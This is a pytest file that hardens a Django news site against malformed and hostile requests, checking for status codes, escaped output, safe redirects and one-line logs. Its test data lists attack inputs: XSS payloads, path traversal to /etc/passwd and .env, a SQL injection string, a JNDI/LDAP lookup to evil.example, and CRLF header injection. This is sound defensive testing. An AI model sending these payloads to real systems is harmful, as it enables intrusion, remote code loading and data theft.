"""Whatever somebody types behind our name: an answer in our look, never a broken one."""

from logging import Formatter

import pytest
from django.conf import settings
from django.test import Client, RequestFactory

pytestmark = pytest.mark.django_db

ATTACK = "\"'><script>alert(1)</script>"
PATHS = [
    "/khong-co/",
    "/tin-tuc/khong-co/sau/hon/nua/",
    "/../../etc/passwd",
    "/tin-tuc/../../../etc/passwd",
    "/..%2f..%2fetc/passwd",
    "/%2e%2e/%2e%2e/",
    "/%00",
    "/tin-tuc/\x00/",
    "/tin-tuc/%ff%fe/",
    "/tin-tuc/\udcff/",
    "//evil.example/",
    "/\\evil.example/",
    "/" + "a" * 8192,
    "/" + "a/" * 4096,
    "/tin-tuc/" + "đ" * 2000 + "/",
    f"/{ATTACK}",
    "/tin-tuc/;jsessionid=1/",
    "/index.php",
    "/.git/config",
    "/.env",
    "/wp-login.php",
    "/Default.aspx",
    "/nhan-su/khong-co/",
    "/nhan-su/co-quan/khong-co/",
    "/nhan-su/cum-thi-dua/khong-co/",
    "/nhan-su/" + "a" * 3000 + "/",
    "/chu-de/khong-co/",
    "/gop-y/da-nhan/" + "a" * 3000 + "/",
    "/gop-y/da-nhan/::::/",
    "/hinh-chia-se/99999999999999999999999999.png",
    "/hinh-chia-se/-1.png",
    "/media/images/../../secret_key",
    "/media/images/khong-co.jpg",
    "/static/../manage.py",
    "/documents/1/x.pdf",
    "/documents/99999999999999999999999/x.pdf",
    "/en/khong-co/",
    "/fr/",
    "/xx/tin-tuc/",
    "/sitemap-bai-999999999.xml",
    "/tin-tuc/thi-dua/khong-co/rss.xml",
    "/tinh/khong-co/rss.xml",
]
QUERIES = [
    ATTACK,
    "\x00",
    "\ud800",
    "'; DROP TABLE news_articlepage; --",
    "../../etc/passwd",
    "${jndi:ldap://evil.example/}",
    "-1",
    "99999999999999999999999999",
    "1e309",
    "NaN",
    "٣",
    "2024-02-30",
    "00010101T000000000000-1",
    "99991231T235959999999-999999999999999999",
    "20240229T020000000000-9999999999999999999",
    "<svg/onload=alert(1)>",
    "a" * 8000,
    "ặ" * 3000,
    "\u202e\u0000\ufeff",
    "\r\nSet-Cookie: a=b",
]
# Made by the same code as other pages, from fewer or other words.
ALIKE = {
    "empty section", "short article", "article in English", "home in English", "empty announcement",
    "closed consultation",
}  # fmt: skip
PARAMETERS = (
    "page truoc sau q year title ngay type sort exact section province trang so locale"
    " award organisation person color height limit"
).split()


@pytest.fixture
def ask(client):
    client.raise_request_exception = False

    def ask(path: str, **query: str):
        request = RequestFactory().get("/", query) if query else None
        environ = {"PATH_INFO": path.encode("utf-8", "surrogateescape").decode("latin-1")}
        if request:
            environ["QUERY_STRING"] = request.META["QUERY_STRING"]
        return client.generic("GET", "/", **environ)

    return ask


@pytest.mark.parametrize("path", PATHS)
def test_no_path_breaks_anything(site_tree, ask, path):
    answer = ask(path)
    body = b"".join(answer) if answer.streaming else answer.content
    assert 300 <= answer.status_code < 500, answer.status_code
    assert b"<script>alert" not in body
    if "Location" in answer:
        assert answer["Location"].startswith("/")
        assert not answer["Location"].startswith(("//", "/\\"))


def test_a_lost_page_looks_like_ours(site_tree, ask):
    for path in ("/khong-co/", "/" + "a" * 8192 + "/", f"/{ATTACK}", "/en/khong-co/"):
        words = ask(path).content.decode()
        assert (
            "This page has lost its way" if path[:4] == "/en/" else "Trang này lạc mất dấu"
        ) in words
        assert 'class="band"' in words


@pytest.mark.long
def test_no_query_breaks_a_page(every_page, ask):
    """Each nasty word in every parameter at once, on a page of every kind."""
    expected = {"lost": {404}, "gone": {410}}
    kinds = {address.partition("?")[0]: name for name, address in every_page.items()}
    for path, name in kinds.items():
        if name in ALIKE:
            continue
        for words in QUERIES:
            try:
                words.encode()
            except UnicodeEncodeError:
                words = words.encode("utf-8", "surrogatepass").decode("latin-1")
            answer = ask(path, **dict.fromkeys(PARAMETERS, words))
            assert answer.status_code in expected.get(name, {200, 400}), (name, words[:30])
            body = answer.content.decode()
            assert "<script>alert" not in body, name
            assert "<svg/onload" not in body, name
            assert "Set-Cookie" not in str(answer.headers), name


def test_a_query_of_eight_kilobytes_is_answered(every_page, ask):
    for name, address in every_page.items():
        if name not in ("lost", "gone"):
            answer = ask(address.partition("?")[0], **{"x" * 4000: "y" * 4000})
            assert answer.status_code == 200, name


def test_a_host_that_is_not_ours_is_refused_without_being_repeated(client):
    client.raise_request_exception = False
    answer = client.get("/en/", headers={"host": "evil.example"})
    words = answer.content.decode()
    assert answer.status_code == 400
    assert "evil.example" not in words
    assert '<html lang="en">' in words
    assert 'class="band"' in words


def test_a_host_that_is_not_ours_leaves_one_line_in_the_log(client, caplog):
    """Whoever tries names of hosts must not fill the log with where Django refuses them."""
    client.get("/tin-tuc/", headers={"host": "evil.example\r\nTraceback"})

    line = Formatter(settings.LOGGING["formatters"]["line"]["format"], style="{").format
    (record,) = caplog.records
    assert record.name == "django.security.DisallowedHost"
    assert len(line(record).splitlines()) == 1
    assert "evil.example" in line(record)


@pytest.mark.parametrize("method", ["POST", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "ÂM"])
def test_no_method_breaks_a_list(site_tree, client, method):
    client.raise_request_exception = False
    for address in ("/", "/chu-de/", "/so-do-trang/", "/gop-y/", "/tim-kiem/", "/khong-co/"):
        assert client.generic(method, address).status_code < 500, address


def test_what_is_sent_to_a_page_is_not_taken_and_the_page_is_offered(every_page):
    """Also without the token of a form, which such a page has none of."""
    client = Client(enforce_csrf_checks=True)
    taken = {"feedback": 403, "API": 405}  # the first says that it was open too long
    for name, address in every_page.items():
        path = address.partition("?")[0]
        answer = client.post(path)
        assert answer.status_code == taken.get(name, 405), name
        if name not in taken:
            words = answer.content.decode()
            assert f'href="{path}"' in words, name
            assert 'class="band"' in words, name
            assert answer["Allow"] == "GET, HEAD"
